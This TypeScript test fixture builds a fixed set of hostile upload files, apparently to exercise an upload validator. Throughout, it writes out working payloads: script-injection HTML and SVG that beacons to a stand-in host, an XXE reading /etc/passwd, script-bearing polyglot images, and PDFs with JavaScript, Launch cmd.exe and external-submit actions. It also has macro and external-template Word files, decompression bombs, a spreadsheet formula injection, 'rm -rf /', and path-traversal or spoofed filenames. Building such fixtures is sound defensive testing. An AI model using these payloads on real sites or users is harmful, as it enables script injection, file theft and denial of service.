import { strToU8, zipSync, zlibSync } from "fflate";
import { joined, pngChunk, pngHeader, pngOf, pngSignature } from "./made-picture.ts";
import { gif, jpeg, webp } from "./small-pictures.ts";

/** A file that somebody means harm with. */
export interface HostileFile {
  what: string;
  name: string;
  /** What whoever sends it says that it is. */
  type: string;
  bytes: Uint8Array;
}

/** Whoever runs one of these leaves a mark, and asks an address of somebody else's. */
const mark = `window.__ran=1;document.title="ran";new Image().src="https://elsewhere.example/hit"`;

const pages = [
  `<script>${mark}</script>`,
  `<!DOCTYPE html><html><body onload='${mark}'>`,
  `<html><img src=x onerror='${mark}'></html>`,
  `<iframe srcdoc="&lt;script&gt;parent.__ran=1&lt;/script&gt;"></iframe>`,
  `<meta http-equiv=refresh content="0;url=https://elsewhere.example/hit">`,
  `<a href="javascript:${mark}" autofocus onfocus='${mark}'>x</a>`,
  `<object data="data:text/html,<script>${mark}</script>"></object>`,
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${mark}</script></html>`,
  `\n\n  <!-- --><script>${mark}</script>`,
  `GIF89a<script>${mark}</script>`,
  `%PDF-1.4\n<script>${mark}</script>`,
  `words first, and then <script>${mark}</script>`,
];

const drawings = [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${mark}</script></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload='${mark}'/>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload='${mark}'/></foreignObject></svg>`,
  `<svg><image href="https://elsewhere.example/hit"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg><script>${mark}</script></svg>#x"/></svg>`,
  `<svg><animate onbegin='${mark}' attributeName=x dur=1s></svg>`,
  `\ufeff<svg><script>${mark}</script></svg>`,
];

const claims = [
  ["picture.png", "image/png"],
  ["picture.jpg", "image/jpeg"],
  ["picture.gif", "image/gif"],
  ["picture.webp", "image/webp"],
  ["paper.pdf", "application/pdf"],
  ["list.csv", "text/csv"],
  ["page.html", "text/html"],
] as const;

const text = (words: string) => new TextEncoder().encode(words);

function as(
  what: string,
  bytes: Uint8Array,
  [name, type]: readonly [string, string] = ["file", ""],
): HostileFile {
  return { what, name, type, bytes };
}

/** Every hostile file: more than two hundred, the same each time. */
export function hostileFiles(): HostileFile[] {
  return [
    ...pages.flatMap((page, n) => claims.map((claim) => as(`page ${n}`, text(page), claim))),
    ...drawings.flatMap((svg, n) =>
      [...claims.slice(0, 4), ["drawing.svg", "image/svg+xml"] as const].map((claim) =>
        as(`drawing ${n}`, text(svg), claim),
      ),
    ),
    ...polyglots(),
    ...bombs(),
    ...papers(),
    ...officeFiles(),
    ...names(),
    ...texts(),
    ...tooLarge(),
  ];
}

/** Files that are two things at once. */
function polyglots(): HostileFile[] {
  const page = text(`<script>${mark}</script>`);
  const both: [string, Uint8Array][] = [
    ["PNG with a page at its end", joined([pngOf(8, 8), page])],
    ["PNG with a page in its words", pngOf(8, 8, [pngChunk("tEXt", joined(["a\0", page]))])],
    ["PNG with a page in its profile", pngOf(8, 8, [pngChunk("iCCP", joined(["a\0\0", page]))])],
    ["JPEG with a page at its end", joined([jpeg, page])],
    ["JPEG with a page in its comment", withComment(page)],
    ["GIF with a page at its end", joined([gif, page])],
    ["GIF that is also a script", joined(["GIF89a/*", gif.subarray(8), `*/=1;${mark}`])],
    ["WebP with a page at its end", joined([webp, page])],
    ["WebP with a page in its EXIF", withChunk(webp, "EXIF", page)],
    ["PDF that is also a page", text(`%PDF-1.7\n<script>${mark}</script>\n%%EOF`)],
    ["page before a PDF", joined([page, pdf("")])],
    ["PNG before a zip", joined([pngOf(8, 8), office({})])],
    ["page before a zip", joined([page, office({})])],
  ];
  return both.flatMap(([what, bytes]) =>
    [claims[0], claims[4], claims[6]].map((claim) => as(what, bytes, claim)),
  );
}

function withComment(words: Uint8Array): Uint8Array {
  const length = Uint8Array.of(0xff, 0xfe, (words.length + 2) >> 8, (words.length + 2) & 255);
  return joined([jpeg.subarray(0, 2), length, words, jpeg.subarray(2)]);
}

function withChunk(file: Uint8Array, name: string, data: Uint8Array): Uint8Array {
  const bytes = joined([file, name, new Uint8Array(4), data, data.length % 2 ? "\0" : ""]);
  const view = new DataView(bytes.buffer);
  view.setUint32(4, bytes.length - 8, true);
  view.setUint32(file.length + 4, data.length, true);
  return bytes;
}

/** Small files that become large pictures, or none. */
function bombs(): HostileFile[] {
  const sizes = [
    [10_000, 10_000],
    [65_535, 65_535],
    [2_147_483_647, 1],
    [1, 60_000],
    [0, 0],
    [0xffffffff, 0xffffffff],
  ] as const;
  const zeros = zlibSync(new Uint8Array(4_000_000));
  const png = (width: number, height: number) =>
    joined([
      pngSignature,
      pngChunk("IHDR", pngHeader(width, height)),
      pngChunk("IDAT", zeros),
      pngChunk("IEND", new Uint8Array()),
    ]);
  const sized = (
    file: Uint8Array,
    at: number,
    size: readonly [number, number],
    little: boolean,
  ) => {
    const bytes = file.slice();
    const view = new DataView(bytes.buffer);
    view.setUint16(at, size[little ? 0 : 1] & 0xffff, little);
    view.setUint16(at + 2, size[little ? 1 : 0] & 0xffff, little);
    return bytes;
  };
  const frame = jpeg.findIndex(
    (byte, at) => byte === 0xff && [0xc0, 0xc2].includes(jpeg[at + 1] ?? 0),
  );
  return [
    ...sizes.map(([width, height]) =>
      as(`PNG of ${width} × ${height}`, png(width, height), claims[0]),
    ),
    ...sizes.map((size) => as(`JPEG of ${size}`, sized(jpeg, frame + 5, size, false), claims[1])),
    ...sizes.map((size) => as(`GIF of ${size}`, sized(gif, 6, size, true), claims[2])),
    ...sizes.map((size) => as(`WebP of ${size}`, sized(webp, 26, size, true), claims[3])),
    as("PNG without points", pngOf(8, 8).subarray(0, 40), claims[0]),
    as("JPEG cut short", jpeg.subarray(0, 20), claims[1]),
    as("picture of nothing", pngSignature, claims[0]),
  ];
}

/** A PDF with these words in it. */
function pdf(words: string): Uint8Array {
  return text(
    `%PDF-1.7\n1 0 obj\n<</Type/Catalog${words}>>\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );
}

function papers(): HostileFile[] {
  const words = [
    `/OpenAction<</S/JavaScript/JS(app.alert(1))>>`,
    `/OpenAction<</S/#4aavaScript/#4a#53(app.alert(1))>>`,
    `/AA<</O<</S/Launch/F(cmd.exe)>>>>`,
    `/Names<</EmbeddedFiles<</Names[(a.exe) 2 0 R]>>>>`,
    `/AcroForm<</XFA 3 0 R>>`,
    `/Annots[<</Subtype/RichMedia>>]`,
    `/OpenAction<</S/SubmitForm/F(https://elsewhere.example/hit)>>`,
    `/OpenAction<</S/GoToR/F(\\\\elsewhere.example\\share)>>`,
    `/OpenAction<</S/ImportData/F(x)>>`,
    `/Annots[<</Subtype/Movie/Movie 4 0 R>>]`,
    `/Annots[<</A<</S/Rendition/JS(1)>>>>]`,
    `/Encrypt 5 0 R`,
  ];
  const packed = zlibSync(text("1 0 <</S/JavaScript/JS(app.alert(1))>>"));
  const stream = (bytes: Uint8Array) =>
    joined([
      `%PDF-1.7\n2 0 obj\n<</Type/ObjStm/Filter/FlateDecode/Length ${bytes.length}>>\nstream\n`,
      bytes,
      "\nendstream\nendobj\n%%EOF\n",
    ]);
  return [
    ...words.map((each) => as(`PDF with ${each}`, pdf(each), claims[4])),
    as("PDF with a script in a packed part", stream(packed), claims[4]),
    as("PDF with a part that cannot be unpacked", stream(text("no zlib")), claims[4]),
    as("PDF without an end", text("%PDF-1.7\n1 0 obj"), claims[4]),
  ];
}

const rels = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" TargetMode="External" Type="http://x/${type}" Target="${target}"/></Relationships>`;

/** A Word file with further parts, or other ones in their place. */
function office(parts: Record<string, string>, main = "word/document.xml"): Uint8Array {
  const all = { "[Content_Types].xml": "<Types/>", [main]: "<document/>", ...parts };
  return zipSync(
    Object.fromEntries(Object.entries(all).map(([name, words]) => [name, strToU8(words)])),
  );
}

function officeFiles(): HostileFile[] {
  const outside = "https://elsewhere.example/hit";
  const made: [string, Uint8Array][] = [
    ["macros", office({ "word/vbaProject.bin": "x" })],
    ["a macro's type", office({ "[Content_Types].xml": "<x macroEnabled.main+xml/>" })],
    ["ActiveX", office({ "word/activeX/activeX1.xml": "x" })],
    ["an object", office({ "word/embeddings/oleObject1.bin": "x" })],
    [
      "a template from elsewhere",
      office({ "word/_rels/settings.xml.rels": rels("attachedTemplate", outside) }),
    ],
    [
      "a picture from elsewhere",
      office({ "word/_rels/document.xml.rels": rels("image", outside) }),
    ],
    ["a frame from elsewhere", office({ "word/_rels/document.xml.rels": rels("frame", outside) })],
    ["a page in it", office({ "word/afchunk.html": pages[0] ?? "" })],
    ["a drawing in it", office({ "word/media/a.svg": drawings[0] ?? "" })],
    ["no main part", office({}, "other.xml")],
    ["two main parts", office({ "xl/workbook.xml": "<x/>" })],
    ["a bomb", office({ "word/_rels/a.rels": " ".repeat(20_000_000) })],
    ["a program", zipSync({ "run.exe": strToU8("MZ") })],
    ["a cut end", office({}).subarray(0, 80)],
  ];
  return made.map(([what, bytes]) => as(`Word file with ${what}`, bytes, ["a.docx", ""]));
}

/** Names that deceive, on a file that is harmless. */
function names(): HostileFile[] {
  const deceptive = [
    ...["a.png.html", "a.html.png", "a.php", "../../../etc/passwd", "..\\..\\windows\\a.exe"],
    ...["a\u202egnp.exe", "a\u0000.html", "a\r\nSet-Cookie: x=1.png", 'a";filename="b.html'],
    ...["<script>alert(1)</script>.png", "a.png;.html", "CON.png", ".htaccess", " .html", "a."],
    ...["a.svg", "a.xhtml", "a.png%00.html", `${"x".repeat(300)}.html`, "𝓪.html", "a‮.html"],
  ];
  return deceptive.map((name) => as("a deceptive name", pngOf(4, 4), [name, "text/html"]));
}

function texts(): HostileFile[] {
  const utf16 = new Uint8Array(
    new Uint16Array([...`\ufeff<script>${mark}</script>`].map((c) => c.charCodeAt(0))).buffer,
  );
  const made: [string, Uint8Array][] = [
    ["a page in UTF-16", utf16],
    ["a page in UTF-7", text("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")],
    ["formulas", text('=cmd|"/c calc"!A1,@SUM(1),+1,-1')],
    ["zeros", new Uint8Array(100)],
    ["a page after a mark of order", text(`\ufeff<html><script>${mark}</script>`)],
    ["a script of a shell", text("#!/bin/sh\nrm -rf /")],
    ["a program", text("MZ\u0090\0\u0003")],
    ["nothing", new Uint8Array()],
  ];
  return made.map(([what, bytes]) => as(`text: ${what}`, bytes, ["list.csv", "text/csv"]));
}

function tooLarge(): HostileFile[] {
  const size = 10 * 1024 * 1024 + 1;
  return [
    as("a byte more than 10 MB of text", new Uint8Array(size).fill(97), ["a.txt", "text/plain"]),
    as("11 MB behind a PNG", joined([pngOf(8, 8), new Uint8Array(size)]), claims[0]),
  ];
}
